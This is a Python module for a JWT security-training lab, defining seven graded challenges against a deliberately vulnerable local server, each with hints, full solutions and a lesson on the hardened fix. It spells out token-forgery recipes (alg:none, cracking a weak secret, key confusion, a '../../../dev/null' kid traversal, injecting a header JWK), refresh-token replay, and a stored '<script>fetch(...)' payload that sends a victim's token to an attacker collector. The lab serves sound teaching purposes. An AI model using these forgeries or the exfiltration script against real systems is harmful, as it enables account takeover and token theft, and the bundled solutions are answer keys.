"""The JWT lab's challenges, against the naive JWT server (vulnerable/naive_jwt.py and its neighbours).

The forged-token challenges share one goal, seen by the naive server: its /admin welcomes
`bob`, an ordinary user, as an admin. What differs is how the token got past the naive
verifier, which tells each judge the key it verified with (none, the token's own `jwk`, or
the path of the key file its `kid` led to). The two stolen-token challenges have a victim,
alice, in a browser of her own (jwt_steps.py): her refresh token leaks from a log, her access
token from localStorage. Each last step sends the real JWT demo the same attack (jwt_steps.py).
"""

from vulnerable.naive_jwt import KEY_FOLDER

from . import jwt_steps
from .catalog import register
from .detect import judge, victim_of
from .victim import Scenario

LAB = "jwt"
ADMIN = "`GET /vulnerable/jwt/admin` with `Authorization: Bearer <your token>`: the naive server's admin route."
SIGN_IN_AS_BOB = (
    '`POST /vulnerable/jwt/login` with JSON `{"username": "bob", "password": "thebuilder"}`: bob\'s own pair '
    "(his role is `user`)."
)
CURL_ADMIN = (
    "`curl -H 'Authorization: Bearer <token>' -H 'Cookie: lab_player=...' "
    "http://localhost:8000/vulnerable/jwt/admin` answers `Welcome, admin!`."
)
SIGN_IN_FIRST = "Sign in as bob at `POST /vulnerable/jwt/login` and copy the `access_token`."


def bob_as_admin(claims):
    """The goal every forged-token challenge shares: the naive /admin believes bob is an admin."""
    return isinstance(claims, dict) and claims.get("sub") == "bob" and claims.get("role") == "admin"


def alg_of(header):
    return header.get("alg") if isinstance(header, dict) else None


def forged_admin(challenge_id, *, alg, verified_by, send=(), steps, real=jwt_steps.real_admin, **text):
    """Register a forged-token challenge and its judge, which tells the five apart by how bob got in.

    Each one's page starts from bob's own sign-in and ends at the naive /admin; its judge wants
    bob as admin, verified by `verified_by` (what naive_verify says verified the token) under
    `alg` (None: any alg, as with no signature at all nothing is computed).
    """
    register(
        id=challenge_id,
        lab=LAB,
        send=(SIGN_IN_AS_BOB, *send, ADMIN),
        solution=(SIGN_IN_FIRST, *steps, CURL_ADMIN),
        real=real,
        **text,
    )

    @judge("naive_jwt.admin", challenge_id)
    def forged_this_way(player, token, header, claims, key):
        this_way = key == verified_by and alg in (None, alg_of(header))
        return token if this_way and bob_as_admin(claims) else None

    return forged_this_way


# Nothing verified the token: `alg: none`, or an empty signature.
forged_admin(
    "jwt-alg-none",
    alg=None,
    verified_by=None,
    title="Become admin with alg: none",
    level="apprentice",
    goal=(
        "Make the naive server's admin route welcome bob as an admin with a token that carries no signature "
        "at all: its header's `alg` says there is none to check."
    ),
    hints=(
        "A JWT is three base64url parts joined by dots: header, payload, signature. Decode bob's first two.",
        "The naive verifier reads `alg` from the token itself, and RFC 7519 defines one algorithm that means "
        '"unsecured".',
        "Change the payload's `role` to `admin` and the header's `alg` to `none`, re-encode both (base64url, "
        "no `=` padding) and keep the last dot, with nothing after it.",
    ),
    steps=(
        'Header: `{"alg": "none", "typ": "JWT"}`; payload: bob\'s, with `"role": "admin"`.',
        "Token: base64url(header) + `.` + base64url(payload) + `.` (an empty signature).",
    ),
    lesson=(
        "The real verifier never lets a token choose its algorithm: only the algorithms of its own keys are "
        "allowed, and `none` is not one of them (RFC 8725 §3.1)."
    ),
    refused_by=("blueprints/jwt/checks.py", "allowed_algorithm"),
)

# The naive server's weak HMAC secret verified it.
forged_admin(
    "jwt-weak-secret",
    alg="HS256",
    verified_by=f"{KEY_FOLDER}/naive-hs",
    title="Crack the naive server's secret",
    level="apprentice",
    goal=(
        "Make the naive admin route welcome bob as an admin with a token signed HS256 with the naive server's own "
        "secret (`kid` `naive-hs`), which nobody gave you."
    ),
    send=("`GET /vulnerable/jwt/wordlist.txt`: an attacker's word list (a small one: real ones hold billions).",),
    hints=(
        "bob's token is HS256: its signature is an HMAC of its first two parts, keyed by a secret. Whoever holds "
        "one token can test guesses of that secret offline, as fast as they can compute HMACs.",
        "For each word of the list, compute HMAC-SHA256 of the token's `header.payload` keyed by the word, and "
        "compare it with the signature (base64url-decoded). One word matches.",
        "That word is the secret: set `role` to `admin` in bob's payload, keep his header, and sign "
        "`header.payload` with HMAC-SHA256 keyed by the word.",
    ),
    steps=(
        "`GET /vulnerable/jwt/wordlist.txt`. In Python, for each word: `hmac.new(word.encode(), signing_input, "
        "hashlib.sha256).digest() == base64.urlsafe_b64decode(signature + '==')`, where `signing_input` is "
        "everything before the last dot. `butterfly` matches.",
        'Payload: bob\'s, with `"role": "admin"`; header unchanged. Signature: base64url(HMAC-SHA256(`butterfly`, '
        "header.payload)), no `=` padding.",
    ),
    lesson=(
        "Each real `kid` has its own 256-bit key, derived with HKDF from a secret of 256 random bits (JWT-2): no "
        "word list holds it, and production refuses to start with a short or patterned secret. The real attempt "
        "runs the same word list against bob's real token, then signs his claims as admin with the naive secret."
    ),
    refused_by=("blueprints/jwt/keys.py", "hmac_key"),
    real=jwt_steps.real_weak_secret,
)

# The RSA public key's file, used as an HMAC secret, verified it.
forged_admin(
    "jwt-alg-confusion",
    alg="HS256",
    verified_by=f"{KEY_FOLDER}/naive-rs",
    title="Sign with the public key",
    level="practitioner",
    goal=(
        "Make the naive admin route welcome bob as an admin with a token whose header says `HS256` and names "
        "`kid` `naive-rs`: the naive server's RSA key, whose private half you will never see."
    ),
    send=("`GET /vulnerable/jwt/public.pem`: the naive server's RSA public key (public, as public keys are).",),
    hints=(
        "For `kid` `naive-rs` the naive server loads its RSA key file, then verifies with whichever algorithm "
        "the token's header names.",
        "With `alg` `HS256`, whatever bytes the key file holds become an HMAC secret. You can download those bytes.",
        'Header `{"alg": "HS256", "typ": "JWT", "kid": "naive-rs"}`; sign `header.payload` with HMAC-SHA256 keyed '
        "by the exact bytes of `public.pem`, its final newline included.",
    ),
    steps=(
        "`curl -o public.pem http://localhost:8000/vulnerable/jwt/public.pem` (keep the bytes exactly as served).",
        'Header `{"alg": "HS256", "typ": "JWT", "kid": "naive-rs"}`, bob\'s payload with `"role": "admin"`.',
        "Signature: base64url(HMAC-SHA256(key = the bytes of public.pem, message = header.payload)).",
    ),
    lesson=(
        "The real keyring binds each key to one algorithm (RFC 8725 §3.1): a token that says HS256 and names an "
        "RS256 key is refused before any signature is computed. In its default HS256 mode the real app publishes "
        "no public key at all; the real attempt uses its JWKS's RSA key when there is one."
    ),
    refused_by=("blueprints/jwt/checks.py", "known_key"),
    real=jwt_steps.real_alg_confusion,
)

# The kid led out of the key folder to /dev/null, and its empty key verified it.
forged_admin(
    "jwt-kid-traversal",
    alg="HS256",
    verified_by="/dev/null",
    title="Lead the kid out of the key folder",
    level="practitioner",
    goal=(
        "Make the naive admin route welcome bob as an admin with a token whose `kid` leads the naive server out of "
        "its key folder, to a file whose content makes an empty key. (Its files are simulated: the lab never "
        "opens a file named by your kid.)"
    ),
    send=("`GET /vulnerable/jwt/protected` with any token: when the naive verifier refuses, it says what it tried.",),
    hints=(
        "Change the `kid` of bob's token to any word and send it to the naive server: its refusal says where it "
        "looked for the key.",
        "The kid is joined to the key folder's path as it comes, and `..` climbs one folder up. Unix has a file "
        "that is always there and always empty.",
        "With `kid` `../../../dev/null` the key is empty: sign HS256 with an empty HMAC key.",
    ),
    steps=(
        'Header `{"alg": "HS256", "typ": "JWT", "kid": "../../../dev/null"}`: the naive server reads '
        "`/etc/naive-jwt/keys/../../../dev/null`, that is `/dev/null`.",
        'bob\'s payload with `"role": "admin"`; signature: base64url(HMAC-SHA256(key = empty, header.payload)).',
    ),
    lesson=(
        "The real verifier looks a `kid` up among its own keys, a table in memory (`keys.held`): never a path, "
        "never a file. A kid it does not hold is refused before any key is used."
    ),
    refused_by=("blueprints/jwt/checks.py", "known_key"),
)

# The RSA key in the token's own header verified it.
forged_admin(
    "jwt-jwk-injection",
    alg="RS256",
    verified_by="jwk",
    title="Bring your own key",
    level="practitioner",
    goal=(
        "Make the naive admin route welcome bob as an admin with a token signed RS256 by a key pair of your own, "
        "the public half riding in the token's own header."
    ),
    hints=(
        "RFC 7515 lets a JWS header carry the key that verifies it, as a JWK. A verifier that uses that key lets "
        "the signer choose it.",
        "Make an RSA key pair (openssl, Python's cryptography, or WebCrypto in the browser's console) and write "
        'its public half as a JWK: `{"kty": "RSA", "n": ..., "e": ...}`.',
        'Header `{"alg": "RS256", "typ": "JWT", "jwk": <your public JWK>}`, bob\'s payload with `role` `admin`, '
        "signed RS256 (RSASSA-PKCS1-v1_5 with SHA-256) with your private key.",
    ),
    steps=(
        'In the console: `keys = await crypto.subtle.generateKey({name: "RSASSA-PKCS1-v1_5", modulusLength: 2048, '
        'publicExponent: new Uint8Array([1, 0, 1]), hash: "SHA-256"}, true, ["sign", "verify"])`, then '
        '`jwk = await crypto.subtle.exportKey("jwk", keys.publicKey)`.',
        'Header `{"alg": "RS256", "typ": "JWT", "jwk": {"kty": "RSA", "n": jwk.n, "e": jwk.e}}`; payload: bob\'s, '
        'with `"role": "admin"`.',
        'Signature: base64url of `crypto.subtle.sign("RSASSA-PKCS1-v1_5", keys.privateKey, <header.payload as '
        "bytes>)`.",
    ),
    lesson=(
        "The real verifier never takes a key from the token: a header with `jwk`, `jku`, `x5u` or `x5c` is "
        "refused outright, and nothing it names is fetched or used (RFC 8725 §3.10)."
    ),
    refused_by=("blueprints/jwt/checks.py", "no_key_offered"),
)


NOTES_STORY = "the naive notes app (`/vulnerable/jwt/notes`), a single-page app that keeps its tokens in localStorage"

register(
    id="jwt-refresh-replay",
    lab=LAB,
    title="Replay a leaked refresh token",
    level="practitioner",
    goal=(
        "alice, the admin, has refreshed her tokens once, and the naive server logged that request. Get a fresh "
        "access token for alice from her already-used refresh token: `POST /vulnerable/jwt/refresh` must answer "
        "a new pair for it."
    ),
    send=(
        "`GET /vulnerable/jwt/log` with your lab_player cookie: the naive server's debug log (your lines and "
        "your victim's).",
        "`POST /vulnerable/jwt/refresh` with `Authorization: Bearer <a refresh token>`: a new pair.",
    ),
    hints=(
        "Let the victim sign in, then read the naive server's debug log: what did her refresh request carry?",
        "The naive server rotates: every refresh hands out a new refresh token. Does it ever refuse an old one?",
        "Send the refresh token of her log line, the one she has already used, to `POST /vulnerable/jwt/refresh` "
        "as a bearer token.",
    ),
    solution=(
        'Press "Let the victim sign in": alice signs in to the naive notes app and refreshes once.',
        "`curl -H 'Cookie: lab_player=...' http://localhost:8000/vulnerable/jwt/log`: her line ends with "
        "`Authorization: Bearer <her old refresh token>`.",
        "`curl -X POST -H 'Authorization: Bearer <that token>' -H 'Cookie: lab_player=...' "
        "http://localhost:8000/vulnerable/jwt/refresh` answers a new `access_token` for alice.",
    ),
    lesson=(
        "The real server redeems each refresh token once (`families.redeem`): a second use shows that a copy "
        "exists, so it revokes the whole family, every token of that sign-in, the thief's and the user's alike "
        "(JWT-6, RFC 9700 §4.14). And it never writes a token to a log."
    ),
    refused_by=("blueprints/jwt/families.py", "redeem"),
    real=jwt_steps.real_refresh_replay,
    victim=Scenario(
        story=(
            f"alice, the admin, signs in to {NOTES_STORY}, in her own browser when you ask, and refreshes her "
            "tokens once. She opens no link of yours."
        ),
        prepare=jwt_steps.alice_keeps_her_refresh_token,
        after=jwt_steps.alice_refreshes,
        needs_link=False,
    ),
)


@judge("naive_jwt.refresh", "jwt-refresh-replay")
def replayed_alices_refresh_token(player, token, claims, replayed):
    """Solved when alice's refresh token, held by this player's victim, comes back after its first use."""
    if not replayed or player is None or claims.get("sub") != "alice":
        return None
    return token if victim_of("naive_refresh", token) == player else None


register(
    id="jwt-xss-token-theft",
    lab=LAB,
    title="Steal a token from localStorage",
    level="expert",
    goal=(
        "alice, the admin, reads your board on the naive notes app, signed in, her access token in localStorage. "
        "Take that token and use it: the naive admin route must welcome alice with her very own token."
    ),
    send=(
        '`POST /vulnerable/jwt/notes` with JSON `{"text": ...}` and your naive bearer token (or the form on '
        "`/vulnerable/jwt/notes`): a note on your board, which the app shows unescaped.",
        "`/exploit` on the attacker's site: store any page to get an id; `/collect/<id>?...` logs whatever "
        "reaches it, and `/exploit/<id>/log.json` shows that log.",
        "`GET /vulnerable/jwt/admin` with `Authorization: Bearer <alice's token>`.",
    ),
    hints=(
        "Sign in to the notes app yourself (as bob), post a note with some HTML in it, `<b>hi</b>`, and look at "
        "your board: is it escaped?",
        "A `<script>` in a note runs on the notes page, in whoever reads your board, where "
        "`localStorage.getItem('naive_jwt_token')` is their token. The page lets a script reach the attacker's "
        "`/collect/` path, and nothing else outside the naive JWT server.",
        "Note: `<script>fetch('<attacker site>/collect/<id>?t=' + localStorage.getItem('naive_jwt_token'))"
        "</script>`. Let the victim read your board, then read your collector's log.",
    ),
    solution=(
        "On the attacker's site, `/exploit`: store any page; its address ends with your id.",
        "On `/vulnerable/jwt/notes`, sign in as bob and post the note `<script>fetch('http://attacker.localhost:"
        "8003/collect/<id>?t=' + localStorage.getItem('naive_jwt_token'))</script>`.",
        'Press "Let the victim sign in": alice signs in and reads your board; your note runs in her browser.',
        "`/exploit/<id>/log.json` shows `t=<her token>`. Send it: `curl -H 'Authorization: Bearer <her token>' "
        "-H 'Cookie: lab_player=...' http://localhost:8000/vulnerable/jwt/admin` answers `Welcome, admin!`.",
    ),
    lesson=(
        "The real JWT lab never puts a token where a script can read it: page memory, or an HttpOnly cookie in "
        "cookie mode (JWT-7). Its pages escape what they render, and their CSP, `script-src 'self'`, runs no "
        "inline script at all: a stored `<script>` would never run. The stolen naive token opens nothing real."
    ),
    refused_by=("security.py", "content_security_policy"),
    real=jwt_steps.real_stolen_token,
    victim=Scenario(
        story=(
            f"alice, the admin, signs in to {NOTES_STORY}, in her own browser when you ask, then reads your board. "
            "Your board is shown to you and to your victim only: a link to it would show anyone else their own."
        ),
        prepare=jwt_steps.alice_may_read_your_board,
        after=jwt_steps.alice_reads_your_board,
        needs_link=False,
    ),
)


@judge("naive_jwt.admin", "jwt-xss-token-theft")
def used_alices_own_token(player, token, header, claims, key):
    """Solved when the token is the one this player's victim held: alice's own, stolen, not a fresh sign-in."""
    return token if player is not None and victim_of("naive_jwt_token", token) == player else None
